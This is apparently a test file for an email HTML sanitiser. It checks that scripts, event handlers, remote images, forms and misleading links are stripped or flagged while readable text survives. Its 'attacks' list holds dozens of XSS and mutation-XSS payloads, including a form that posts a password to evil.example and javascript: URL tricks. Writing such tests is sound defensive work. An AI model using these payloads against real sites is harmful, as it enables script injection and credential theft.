import fc from "fast-check";
import { Parser } from "htmlparser2";
import { describe, expect, test } from "vitest";
import { allowedAttributes, allowedTags, type HtmlView, htmlView } from "../../../shared/mail/html-view.ts";

interface Found {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** The elements of a view as a parser that shares nothing with it sees them. */
function elementsOf({ html }: HtmlView): readonly Found[] {
  const found: Found[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => found.push({ name, attributes: { ...attributes } }),
  });
  parser.write(html);
  parser.end();
  return found;
}

function expectSafe(view: HtmlView): void {
  expect(elementsOf(view).flatMap(breachesOf)).toEqual([]);
  expect(view.html).not.toMatch(/<!--|<!\[CDATA|<\?/);
}

/** What is wrong with an element; plain comparisons, since there may be many thousand. */
function breachesOf({ name, attributes }: Found): readonly string[] {
  const known = [...(allowedAttributes[name] ?? []), ...(allowedAttributes["*"] ?? [])];
  const apart =
    name !== "a" || (attributes.rel === "noopener noreferrer nofollow" && attributes.target === "_blank");
  return [
    ...(allowedTags.includes(name) ? [] : [`element ${name}`]),
    ...(apart ? [] : ["a link that does not open apart"]),
    ...Object.entries(attributes)
      .filter(([attribute, value]) => !known.includes(attribute) || !(shapes[attribute]?.test(value) ?? true))
      .map(([attribute, value]) => `${name} ${attribute}=${value}`),
  ];
}

const shapes: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/|mailto:)/,
  src: /^(?:\/(?!\/)|data:image\/(?:png|jpe?g|gif|webp);base64,)/,
  class: /^(?:blocked-image|link-target)$/,
};

/** Ways in which markup tries to run, load, post or cover something. */
const attacks: readonly string[] = [
  "<script>steal()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>steal()</scr</script>ipt>",
  "<img src=x onerror=steal()>",
  '<img src="javascript:steal()">',
  "<img src=`javascript:steal()`>",
  '<img/src="x"/onerror=steal()//>',
  '<img """><script>steal()</script>">',
  "<svg onload=steal()>",
  "<svg><script>steal()</script></svg>",
  '<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  "<svg><style><img src=x onerror=steal()></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=steal()&gt;">',
  '<math href="javascript:steal()">x</math>',
  '<a href="javascript:steal()">x</a>',
  '<a href="java\nscript:steal()">x</a>',
  '<a href="&#106;avascript&colon;steal()">x</a>',
  '<a href="  javascript:steal()">x</a>',
  '<a href="\u0001javascript:steal()">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/desk/me">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="steal()" style="position:fixed;inset:0">x</a>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
  "<iframe src=javascript:steal()></iframe>",
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  "<object data=evil.swf></object><embed src=evil.swf>",
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
  "<input onfocus=steal() autofocus><textarea></textarea><select><option>x</select>",
  '<button formaction="javascript:steal()">x</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  '<div style="width:expression(steal())">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<table background="https://evil.example/x"><tr><td background="//evil.example/y">x</td></tr></table>',
  '<body onload=steal() background="https://evil.example/x">',
  "<marquee onstart=steal()>x</marquee>",
  "<details open ontoggle=steal()>x</details>",
  '<video poster="https://evil.example/x"><source onerror=steal()></video>',
  '<audio src="https://evil.example/x" onerror=steal()></audio>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript>',
  "<template><script>steal()</script></template>",
  "<xmp><img src=x onerror=steal()></xmp>",
  "<plaintext><img src=x onerror=steal()>",
  "<textarea></textarea><img src=x onerror=steal()></textarea>",
  "<title></title><img src=x onerror=steal()>",
  "<!--[if gte IE 4]><script>steal()</script><![endif]-->",
  "<!--><img src=x onerror=steal()>-->",
  "<![CDATA[<img src=x onerror=steal()>]]>",
  "<?xml version='1.0'?><?php steal() ?>",
  "<p id=location name=attributes>x</p><a id=document name=cookie>x</a>",
  '<img src="https://evil.example/pixel.gif?id=mei" width=1 height=1>',
  '<img srcset="https://evil.example/x 2x">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9c3RlYWwoKT4=">',
  '<img src="data:text/html,<script>steal()</script>">',
  '<img src="cid:a" onerror=steal()>',
  '<img alt="&quot; onerror=&quot;steal()" src="https://evil.example">',
  '<a href="https://ok.example/&quot; onclick=&quot;steal()">x</a>',
  '<a href="https://ok.example/?<script>">x</a>',
  '<td colspan="1000000000">x</td><td colspan="2" rowspan="x">y</td>',
  "<p dir='ltr\" onclick=\"steal()'>x</p>",
  "<custom-element onclick=steal()>x</custom-element>",
  "<a@evil.example onmouseover=steal()>",
  "&lt;script&gt;steal()&lt;/script&gt;",
  "<<script>steal()//<</script>",
  "<a href='https://ok.example'><a href='javascript:steal()'>x</a></a>",
];

describe("nothing in a view runs, loads, posts or covers anything", () => {
  test.each(attacks)("%s", (attack) => {
    for (const html of [attack, `<div>a${attack}b</div>`, `<table><tr><td>${attack}`, `${attack}${attack}`]) {
      expectSafe(htmlView(html, { imageUrl: () => "/attachments/1" }));
    }
  });

  test("the check itself sees a breach", () => {
    const breached = {
      html: '<b onclick=x>a</b><a href="javascript:x">b</a>',
      blockedImages: 0,
      misleadingLinks: 0,
      cut: false,
    };
    expect(elementsOf(breached).flatMap(breachesOf)).toHaveLength(3);
  });

  test("however attacks are broken and joined", () => {
    const pieces = attacks.flatMap((attack) => attack.split(/(?<=[<>"'=\s])/));
    const html = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string({ maxLength: 4 })), {
      maxLength: 40,
    });
    fc.assert(
      fc.property(html, (parts) => expectSafe(htmlView(parts.join(""), { imageUrl: () => "/a/1" }))),
      { numRuns: 500 },
    );
  });

  test("a view of a view is the same view", () => {
    for (const attack of attacks) {
      const once = htmlView(attack);
      expectSafe(htmlView(once.html));
    }
  });
});

describe("what a reader needs stays", () => {
  test("text and structure", () => {
    const html =
      "<h1>Refund</h1><p>Hi <b>there</b>,<br>one</p><ul><li>a</li></ul><table><tr><td colspan=2>x</td></tr></table><pre>a  b</pre><p dir=rtl>שלום</p>";
    expect(htmlView(html)).toMatchObject({
      html: '<h1>Refund</h1><p>Hi <b>there</b>,<br />one</p><ul><li>a</li></ul><table><tr><td colspan="2">x</td></tr></table><pre>a  b</pre><p dir="rtl">שלום</p>',
      blockedImages: 0,
      misleadingLinks: 0,
      cut: false,
    });
  });

  test("colours and looks go, so that it is readable on dark and on light", () => {
    const html =
      '<font color="#000" face=x><p style="color:black;background:#fff" bgcolor=white class=x>dark</p></font>';
    expect(htmlView(html).html).toBe("<p>dark</p>");
  });

  test("text that nobody was to see goes", () => {
    expect(htmlView('<span style="display: none">secret</span><title>t</title>shown').html).toBe("shown");
  });

  test("an address that nobody escaped", () => {
    expect(htmlView("Ann <ann@a.example> wrote").html).toBe("Ann &lt;ann@a.example&gt; wrote");
  });
});

describe("images", () => {
  test("remote ones are counted and described", () => {
    const { html, blockedImages } = htmlView(
      '<img src="https://t.example/a.png" alt="Our chart"><img src="//t.example/b.png"><div style="background-image:url(\'https://t.example/c.png\')">x</div>',
    );
    expect(blockedImages).toBe(3);
    expect(html).toBe(
      '<span class="blocked-image">Our chart</span><span class="blocked-image">image</span><div>x</div>',
    );
  });

  test("pixels that only tell their sender are counted and not shown", () => {
    const pixel = '<img src="https://t.example/p.gif" width="1" height="1" alt="">';
    expect(htmlView(`a${pixel}b`)).toMatchObject({ html: "ab", blockedImages: 1 });
  });

  test("those of the mail itself are shown from where the caller says", () => {
    const imageUrl = (contentId: string) =>
      contentId === "logo@a.example" ? "/attachments/logo" : undefined;
    const { html, blockedImages } = htmlView(
      '<img src="cid:logo@a.example" alt="Logo"><img src="CID:logo%40a.example"><img src="cid:other" alt="Other">',
      { imageUrl },
    );
    expect(html).toBe(
      '<img src="/attachments/logo" alt="Logo" /><img src="/attachments/logo" alt="" /><span class="blocked-image">Other</span>',
    );
    expect(blockedImages).toBe(1);
  });

  test("small pictures in the markup are shown", () => {
    const src = "data:image/png;base64,iVBORw0KGgo=";
    expect(htmlView(`<img src="${src}" alt="dot">`).html).toBe(`<img src="${src}" alt="dot" />`);
    expect(htmlView(`<img src="data:image/png;base64,${"A".repeat(600_000)}">`).html).not.toContain("AAAA");
  });
});

describe("links", () => {
  test("open apart, without telling where from, and show where they lead", () => {
    expect(htmlView('<a href="https://ok.example/a?b=1&amp;c=2">here</a>').html).toBe(
      '<a href="https://ok.example/a?b=1&amp;c=2" title="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">here</a>',
    );
  });

  test("whose text is another address say so behind it", () => {
    const { html, misleadingLinks } = htmlView(
      '<a href="https://evil.example/login">https://bank.example</a>',
    );
    expect(misleadingLinks).toBe(1);
    expect(html).toMatch(
      /https:\/\/bank\.example<\/a> <span class="link-target">\[→ evil\.example\]<\/span>$/,
    );
  });

  test("that are none lose their address and keep their text", () => {
    expect(htmlView('<a href="javascript:steal()">press</a> <a name="top">top</a>').html).toBe("press top");
  });
});

describe("size and depth", () => {
  test("twenty thousand nested elements lose elements and no text", () => {
    const { html } = htmlView(`${"<div>".repeat(20_000)}deep`);
    expect(html).toContain("deep");
    expect(html.length).toBeLessThan(5_000);
  });

  test("what is too long is cut and says so", () => {
    const view = htmlView(`<p>${"word ".repeat(200_000)}`);
    expect(view.cut).toBe(true);
    expect(view.html.length).toBeLessThan(600_000);
  });

  // Quadratic work on so many elements would outlast the runner's patience.
  test.each([
    "<",
    "<a href=https://x.example>",
    "<table><tr><td>",
    "<b>x",
    "&lt;",
    "<img src=x>",
    "<p>",
    "</p>",
    '<a "',
    "<!--",
  ])("much of %j becomes a view", (unit) => {
    expectSafe(htmlView(unit.repeat(100_000 / unit.length)));
  });
});
